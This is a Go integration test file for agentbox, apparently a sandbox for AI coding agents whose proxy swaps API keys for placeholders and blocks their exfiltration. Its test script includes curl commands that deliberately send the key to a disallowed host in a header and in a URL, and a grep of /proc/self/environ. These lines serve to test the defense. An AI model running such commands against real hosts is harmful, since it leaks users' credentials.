//go:build linux

package integration

import (
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/pem"
	"fmt"
	"io"
	"math/big"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"
)

// testRoots stands in for the public roots of the Internet: a CA, written
// to a PEM file for agentbox's SSL_CERT_FILE (the roots the proxy checks a
// host's certificate against), and a certificate it signs for the test's
// names and 127.0.0.1.
func testRoots(t *testing.T, dir string) (caFile string, cert tls.Certificate) {
	t.Helper()
	key, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	caTmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "agentbox test roots"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(2 * time.Hour), IsCA: true,
		BasicConstraintsValid: true, KeyUsage: x509.KeyUsageCertSign}
	caDER, err := x509.CreateCertificate(rand.Reader, caTmpl, caTmpl, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	ca, _ := x509.ParseCertificate(caDER)
	leafKey, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	leafTmpl := &x509.Certificate{SerialNumber: big.NewInt(2), Subject: pkix.Name{CommonName: "example.test"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(2 * time.Hour), DNSNames: testNames,
		IPAddresses: []net.IP{net.IPv4(127, 0, 0, 1)}, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}}
	leafDER, err := x509.CreateCertificate(rand.Reader, leafTmpl, ca, &leafKey.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	caFile = filepath.Join(dir, "test-roots.pem")
	write(t, caFile, string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: caDER})))
	return caFile, tls.Certificate{Certificate: [][]byte{leafDER}, PrivateKey: leafKey}
}

// keyServer is a TLS (or plain) server that records the x-api-key of each
// request and answers with it.
type keyServer struct {
	*httptest.Server
	port string
	mu   sync.Mutex
	got  []string // "host METHOD path key"
}

func startKeyServer(t *testing.T, cert *tls.Certificate) *keyServer {
	t.Helper()
	s := &keyServer{}
	s.Server = httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.Copy(io.Discard, r.Body)
		s.mu.Lock()
		s.got = append(s.got, fmt.Sprintf("%s %s %s %s", r.Host, r.Method, r.URL.Path, r.Header.Get("X-Api-Key")))
		s.mu.Unlock()
		fmt.Fprintf(w, "%s saw key %s\n", r.Host, r.Header.Get("X-Api-Key"))
	}))
	if cert != nil {
		s.TLS = &tls.Config{Certificates: []tls.Certificate{*cert}}
		s.StartTLS()
	} else {
		s.Start()
	}
	t.Cleanup(s.Close)
	_, s.port, _ = net.SplitHostPort(s.Listener.Addr().String())
	return s
}

func (s *keyServer) Got() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]string(nil), s.got...)
}

// realKey is the test's API key: what agentbox holds and the box never.
const realKey = "sk-ant-agentbox-test-real-key-0123456789"

// TestNetworkSecret: the box's API_KEY is a placeholder; on TLS to the
// secret's host the host gets the real key and the box sees the
// placeholder in the answer; the placeholder on its way to another allowed
// host is refused and logged as an exfiltration attempt; a method rule
// refuses POST to an intercepted host; every other host is tunnelled
// unread; the real key is in no log and nowhere in the box.
func TestNetworkSecret(t *testing.T) {
	needCurl(t)
	netNames(t)
	for _, backend := range []string{"bwrap", "landlock"} {
		t.Run(backend, func(t *testing.T) { testNetworkSecret(t, backend) })
	}
}

func testNetworkSecret(t *testing.T, backend string) {
	w := newWorld(t)
	caFile, cert := testRoots(t, w.base)
	tlsSrv := startKeyServer(t, &cert)
	plainSrv := startKeyServer(t, nil)
	p, pp := tlsSrv.port, plainSrv.port
	pol := filepath.Join(w.base, "secret.toml")
	write(t, pol, `version = 1
[network]
allow = ["example.test", "other.test", "GET wild.test/ro/*"]

[[network.secret]]
env   = "API_KEY"
hosts = ["example.test"]
`)
	netLog := filepath.Join(w.base, "net.log")
	w.env = append(w.env, "API_KEY="+realKey, "SSL_CERT_FILE="+caFile)
	script := strings.Join([]string{
		`echo "key in the box: $API_KEY"`,
		`curl -sS https://example.test:` + p + `/v1/messages -H "x-api-key: $API_KEY"`,
		`curl -sS -o /dev/null -w 'plain other.test: %{http_code}\n' http://other.test:` + pp + `/ -H "x-api-key: $API_KEY"`,
		`curl -sS -o /dev/null -w 'plain other.test URL: %{http_code}\n' "http://other.test:` + pp + `/?key=$API_KEY"`,
		`curl -sS https://other.test:` + p + `/tunnelled -H "x-api-key: $API_KEY"`,
		`curl -sS -o /dev/null -w 'GET wild.test: %{http_code}\n' https://wild.test:` + p + `/ro/file`,
		`curl -sS -o /dev/null -w 'POST wild.test: %{http_code}\n' -X POST -d x https://wild.test:` + p + `/ro/file`,
		`for v in "$NODE_EXTRA_CA_CERTS" "$REQUESTS_CA_BUNDLE" "$CURL_CA_BUNDLE" "$GIT_SSL_CAINFO"; do [ "$v" = "$SSL_CERT_FILE" ] || echo "differs: $v"; done`,
		`echo "bundle file: $SSL_CERT_FILE"`,
		`echo "authority in the bundle: $(grep -c "this run's own certificate authority" "$SSL_CERT_FILE")"`,
		`echo "authority in the system's: $(grep -c "this run's own certificate authority" /etc/ssl/certs/ca-certificates.crt)"`,
		`echo "private keys in the bundle: $(grep -c "PRIVATE KEY" "$SSL_CERT_FILE")"`,
		`echo "real key in the box: $(grep -rl -- "` + realKey[:20] + `" /proc/self/environ "$SSL_CERT_FILE" 2>/dev/null | wc -l)"`,
	}, "; ")
	r := w.sh([]string{"--backend", backend, "--policy", pol, "--net-log", netLog}, script)
	expectCode(t, r, 0)
	ph := ""
	for _, line := range strings.Split(r.stdout, "\n") {
		if v, ok := strings.CutPrefix(line, "key in the box: "); ok {
			ph = v
		}
	}
	if !strings.HasPrefix(ph, "agentbox") || len(ph) != len(realKey) {
		t.Fatalf("the box's API_KEY is %q, want a placeholder as long as the key:\n%s", ph, r)
	}
	system := "1" // bwrap binds the box's bundle over the system's
	if backend == "landlock" {
		system = "0"
	}
	for _, want := range []string{
		"example.test:" + p + " saw key " + ph + "\n", // the value the host saw is turned back in the answer
		"plain other.test: 403\n",
		"plain other.test URL: 403\n",
		"other.test:" + p + " saw key " + ph + "\n", // tunnelled: the proxy cannot read it, and it is only the placeholder
		"GET wild.test: 200\n",
		"POST wild.test: 403\n",
		"authority in the bundle: 1\n",
		"authority in the system's: " + system + "\n",
		"private keys in the bundle: 0\n",
		"real key in the box: 0\n",
	} {
		expectContains(t, "stdout", r.stdout, want)
	}
	expectNotContains(t, "stdout", r.stdout, "differs")
	got := tlsSrv.Got()
	if len(got) != 3 || got[0] != "example.test:"+p+" GET /v1/messages "+realKey || got[1] != "other.test:"+p+" GET /tunnelled "+ph ||
		got[2] != "wild.test:"+p+" GET /ro/file " {
		t.Errorf("the TLS server got:\n%s", strings.Join(got, "\n"))
	}
	if g := plainSrv.Got(); len(g) != 0 {
		t.Errorf("the other host got %q", g)
	}
	data, _ := os.ReadFile(netLog)
	log := string(data)
	logHas(t, log, "allow https example.test:"+p, `request="GET /v1/messages"`, "put in API_KEY")
	logHas(t, log, "deny http other.test:"+pp, "exfiltration attempt: the placeholder of API_KEY", "header X-Api-Key")
	logHas(t, log, "deny http other.test:"+pp, "exfiltration attempt", "the request's URL")
	logHas(t, log, "deny https wild.test:"+p, `request="POST /ro/file"`, "no allow rule matches POST /ro/file")
	logHas(t, log, "allow connect other.test:"+p)
	noSecretIn(t, []string{realKey, ph}, netLog, filepath.Join(w.home, ".local", "state"))
	// The summary says what happened, and allows nothing for it.
	expectContains(t, "summary", r.stderr, "exfiltration attempt")
	expectNotContains(t, "summary", r.stderr, "--allow other.test")
	expectContains(t, "summary", r.stderr, "--allow 'POST wild.test:"+p+"/ro/file'")
	for _, line := range strings.Split(r.stdout, "\n") {
		if f, ok := strings.CutPrefix(line, "bundle file: "); ok && backend == "landlock" {
			// The run's bundle in its TMPDIR is gone with the run.
			if !strings.Contains(f, "agentbox-ca-") {
				t.Errorf("the bundle is %s", f)
			}
			if _, err := os.Stat(f); err == nil {
				t.Errorf("the run's bundle %s is left behind", f)
			}
		}
	}

	r = w.run("plan", "--backend", backend, "--policy", pol, "--", "true")
	expectCode(t, r, 0)
	expectContains(t, "plan", r.stdout, "  secret:  API_KEY holds a placeholder in the box; the proxy puts the real value (from agentbox's environment) in on TLS to example.test only")
	expectContains(t, "plan", r.stdout, "  intercepted: GET wild.test/ro/*, example.test: TLS terminated with this run's own certificate authority")
	expectNotContains(t, "plan", r.stdout, realKey)
}

// TestClaudeSecret: a real Claude Code turn against a TLS stand-in of the
// Anthropic API, in allowlist mode with ANTHROPIC_API_KEY as a secret: the
// CLI in the box holds a placeholder (its Bash tool prints it), the
// stand-in receives the real key on every request, through the proxy and
// the run's own authority, which the CLI trusts from the box's bundle.
func TestClaudeSecret(t *testing.T) {
	needCLI(t, "claude")
	netNames(t)
	for _, backend := range []string{"bwrap", "landlock"} {
		t.Run(backend, func(t *testing.T) {
			w := newWorld(t)
			caFile, cert := testRoots(t, w.base)
			api := &fakeAPI{kind: "claude", final: "done", results: map[int]string{}}
			var mu sync.Mutex
			var keys []string
			api.srv = httptest.NewUnstartedServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
				mu.Lock()
				keys = append(keys, r.Header.Get("X-Api-Key"))
				mu.Unlock()
				api.serve(rw, r)
			}))
			api.srv.TLS = &tls.Config{Certificates: []tls.Certificate{cert}}
			api.srv.StartTLS()
			t.Cleanup(func() {
				api.srv.CloseClientConnections()
				api.srv.Close()
				for _, p := range api.problems {
					t.Errorf("fake claude API: %s", p)
				}
			})
			pol := filepath.Join(w.base, "secret.toml")
			write(t, pol, "version = 1\n[network]\nallow = [\"example.test\"]\n\n[[network.secret]]\nenv = \"ANTHROPIC_API_KEY\"\nhosts = [\"example.test\"]\n")
			netLog := filepath.Join(w.base, "net.log")
			n := api.newTurn(`echo "key=$ANTHROPIC_API_KEY"`)
			ctx, cancel := context.WithTimeout(context.Background(), agentTurnTimeout)
			defer cancel()
			args := append([]string{"run", "--backend", backend, "--policy", pol, "--net-log", netLog, "--"}, cliArgv(api, "do it")...)
			c := w.command(ctx, args...)
			c.Env = append(append([]string(nil), w.env...),
				"ANTHROPIC_BASE_URL=https://example.test:"+api.Port(),
				"ANTHROPIC_API_KEY="+realKey,
				"CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC=1",
				"SSL_CERT_FILE="+caFile)
			c.Stdin = strings.NewReader("")
			c.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
			c.Cancel = func() error { return syscall.Kill(-c.Process.Pid, syscall.SIGKILL) }
			var out, errb bytes.Buffer
			c.Stdout, c.Stderr = &out, &errb
			err := c.Run()
			if ctx.Err() != nil {
				t.Fatalf("the turn did not finish within %v:\n%s\n%s", agentTurnTimeout, out.String(), errb.String())
			}
			if err != nil || turnAnswer(api, out.String()) != "done" {
				data, _ := os.ReadFile(netLog)
				t.Fatalf("the turn did not complete: %v\nstdout:\n%s\nstderr:\n%s\nrequests: %v\nnet log:\n%s", err, out.String(), errb.String(), api.Requests(), data)
			}
			tool := api.Results()[n]
			ph, ok := strings.CutPrefix(strings.TrimSpace(tool), "key=")
			if !ok || !strings.HasPrefix(ph, "agentbox") || len(ph) != len(realKey) {
				t.Errorf("the Bash tool in the box printed %q, want the placeholder", tool)
			}
			mu.Lock()
			got := append([]string(nil), keys...)
			mu.Unlock()
			if len(got) == 0 {
				t.Fatal("the stand-in got no request")
			}
			for _, k := range got {
				if k != realKey {
					t.Errorf("the stand-in got the key %q, want the real one", k)
				}
			}
			if left := leftBehind(w.home); len(left) > 0 {
				t.Errorf("processes left behind (killed now):\n%s", strings.Join(left, "\n"))
			}
			data, _ := os.ReadFile(netLog)
			logHas(t, string(data), "allow https example.test:"+api.Port(), `request="POST /v1/messages"`, "put in ANTHROPIC_API_KEY")
			noSecretIn(t, []string{realKey}, netLog, filepath.Join(w.home, ".local", "state"), filepath.Join(w.home, ".claude"))
		})
	}
}
